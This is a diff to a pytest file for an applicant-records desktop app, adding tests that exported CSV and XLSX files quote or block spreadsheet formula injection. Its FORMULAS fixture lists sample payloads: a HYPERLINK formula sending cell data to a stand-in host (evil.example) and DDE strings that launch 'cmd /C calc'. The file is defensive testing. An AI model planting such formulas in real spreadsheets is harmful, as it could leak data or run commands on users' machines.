@@ -8,9 +8,11 @@ import dataclasses
 import datetime as dt
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from desktop.errors import PermissionDenied, UserError
+from desktop.errors import PermissionDenied, UserError, ValidationError
 from desktop.models import Applicant, ChangeLog, Role
 from desktop.models.db import close_database, open_database
 from desktop.services import applicant_io, applicants, auth
@@ -25,9 +27,12 @@ from desktop.services.applicant_search import ApplicantSearch, Filters
 from desktop.services.identity import national_code_check_digit
 from desktop.services.progress import Cancelled, Progress
 from desktop.services.setup import initialise_center
+from desktop.services.spreadsheet import unquoted
 from desktop.strings import Applicants as ApplicantMessages
 from desktop.strings.applicant_io import HEADERS
 from desktop.strings.applicant_io import ApplicantIo as Messages
+from desktop.strings.spreadsheet import NAME_STARTS_LIKE_FORMULA
+from tests.factories import applicant_input
 
 CONTRACT = [
     "national_code",
@@ -581,7 +586,85 @@ def test_export_csv_has_bom_and_contract_header(admin, tmp_path):
         [row] = list(csv.DictReader(exported))
     assert list(row) == list(EXPORT_FIELDS)
     assert row["file_number"] == "TEH05-000001" and row["status"] == "registered"
-    assert {name: row[name] for name in FULL} == FULL
+    assert row["notes"] == "'" + FULL["notes"]  # a formula, quoted (see below)
+    assert {name: row[name] for name in FULL if name != "notes"} == {
+        name: value for name, value in FULL.items() if name != "notes"
+    }
+
+
+# -- formulas never run (CSV injection) -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+98 912",
+    "=1+1",
+]
+
+
+@settings(
+    suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=40
+)
+@given(
+    text=st.text(
+        alphabet=st.one_of(st.sampled_from("=+-@\t\r\n '\"|,;"), st.characters()), max_size=12
+    )
+)
+def test_no_exported_csv_cell_starts_like_a_formula(admin, tmp_path_factory, text):
+    code = national_code(300_000_000 + len(Applicant.select()))
+    import_people(admin, person(1, national_code=code, notes=text, address=text))
+    out = tmp_path_factory.mktemp("export") / "out.csv"
+    applicant_io.export(admin, ApplicantSearch(admin, code), out)
+    with open(out, encoding="utf-8-sig", newline="") as exported:
+        [row] = list(csv.DictReader(exported))
+    stored_notes = stored(code).notes
+    for name in EXPORT_FIELDS:
+        cell = row[name]
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    assert unquoted(row["notes"]) == stored_notes  # only quoted, never changed
+
+
+def test_formulas_are_quoted_in_csv_text_in_xlsx_and_read_back(admin, tmp_path):
+    people = [person(n, notes=text, address=text) for n, text in enumerate(FORMULAS, start=1)]
+    import_people(admin, *people)
+    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    applicant_io.export(admin, ApplicantSearch(admin), csv_out)
+    applicant_io.export(admin, ApplicantSearch(admin), xlsx_out)
+    with open(csv_out, encoding="utf-8-sig", newline="") as exported:
+        rows = list(csv.DictReader(exported))
+    assert sorted(row["notes"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    sheet = load_workbook(xlsx_out).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    notes = EXPORT_FIELDS.index("notes")
+    assert sorted(row[notes].value for row in sheet.iter_rows(min_row=2)) == sorted(FORMULAS)
+    # Both files read back into another center as they were written.
+    for out in (csv_out, xlsx_out):
+        other = fresh_center()
+        assert import_everything(other, out).created == len(FORMULAS)
+        assert sorted(a.notes for a in Applicant.select()) == sorted(FORMULAS)
+
+
+def test_the_report_quotes_formulas_too(tmp_path):
+    out = tmp_path / "report.csv"
+    applicant_io.write_report([RowResult(2, "rejected", "notes", "=1+1")], out)
+    assert out.read_text(encoding="utf-8") == "row,status,field,message\n2,rejected,notes,'=1+1\n"
+
+
+@pytest.mark.parametrize("name", ["first_name", "last_name", "father_name"])
+@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+علی", "-رضا", "@زهرا", "\t=علی", " =علی"])
+def test_a_name_that_starts_like_a_formula_is_refused(admin, name, value):
+    with pytest.raises(ValidationError) as refused:
+        applicants.validate(applicant_input(**{name: value}))
+    assert refused.value.errors == {name: NAME_STARTS_LIKE_FORMULA}
+    [result] = check(admin, person(1, **{name: value}))
+    assert (result.status, result.field, result.message) == (
+        "rejected",
+        name,
+        NAME_STARTS_LIKE_FORMULA,
+    )
+    applicants.validate(applicant_input(**{name: "علی-رضا"}))  # inside a name, a dash is fine
 
 
 def import_everything(admin, path):
